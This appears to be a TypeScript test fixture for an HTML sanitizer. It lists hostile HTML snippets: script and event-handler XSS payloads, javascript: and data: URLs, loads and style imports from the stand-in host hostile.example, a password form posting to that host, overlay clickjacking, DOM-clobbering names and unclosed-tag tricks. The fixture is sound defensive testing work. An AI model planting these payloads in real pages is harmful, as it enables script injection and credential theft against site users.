const js = 'window.canary=1;alert(1)'
const host = 'https://hostile.example'

/**
 * Could be stored with an administrator's session (D24). Each piece closes its tags, so that they can be joined. Does
 * not repeat the tests of DOMPurify, which know more tricks of the HTML parser.
 */
export const hostileHtml: Record<string, string> = {
  script: `<script>${js}</script>`,

  'image that fails': `<img src="x" onerror="${js}">`,
  'handler behind a quote': `<img alt="a" title='"onerror="${js}"' src=x>`,
  'pointer and focus': `<p onpointerover="${js}" onfocus="${js}" tabindex="1" autofocus>a</p>`,

  'javascript link': `<a href="javascript:${js}">a</a>`,
  'data link': `<a href="data:text/html,<script>${js}</script>">a</a>`,
  'data image with script': `<img src="data:image/svg+xml,<svg onload='${js}' xmlns='http://www.w3.org/2000/svg'/>">`,
  'image that is not https': '<img src="http://hostile.example/a.png"><img src="//hostile.example/b.png">',
  'image in another attribute': `<img srcset="${host}/a.png 1x" sizes="100vw"><table background="${host}/b.png"></table>`,
  'pinging link': `<a href="/en" ping="${host}/ping" download target="_blank" rel="opener">a</a>`,
  'svg script': `<svg><script>${js}</script></svg>`,
  'style element': `<style>@import '${host}/a.css';header{display:none}</style>`,
  'style attribute': `<p style="background:url(${host}/a.png)">a</p>`,
  'overlay by style':
    '<div style="position:fixed;inset:0;z-index:9999"><a href="https://hostile.example">a</a></div>',
  'overlay by classes of the site':
    '<div class="fixed inset-0 z-50"><a class="absolute inset-0" href="/en">a</a></div>',
  iframe: `<iframe src="${host}"></iframe><iframe src="javascript:${js}"></iframe>`,
  'form that asks for a password': `<form action="${host}"><input name="password" type="password" autofocus><button formaction="javascript:${js}">a</button></form>`,
  'slot and part': '<slot name="a"></slot><p slot="a" part="b" is="x-y">a</p>',
  'names that hide functions':
    '<img name="getElementById"><form name="body"></form><a id="cookie" name="querySelector">a</a>',
  'ids of the site':
    '<p id="root">a</p><p id="main">b</p><a id="__staticRouterHydrationData" href="/en">c</a>',
  'keyboard and editing': '<p tabindex="1" accesskey="s" contenteditable="true" draggable="true">a</p>',
  'live region and role': '<p role="alert" aria-live="assertive" aria-modal="true" data-state="open">a</p>',
  'hidden from some': '<p hidden inert aria-hidden="true">a</p>',
}

/** The parser would add the text after a piece to its open tag, attribute or comment. */
export const unclosedHtml: Record<string, string> = {
  plaintext: `<p>a</p><plaintext><img src=x onerror=${js}>`,
  'unclosed comment': `<p>a</p><!-- <img src=x onerror=${js}>`,
  'unclosed attribute': `<p>a</p><img src=x onerror=${js} alt="`,
  'unclosed script': `<p>a</p><script>${js}`,
}
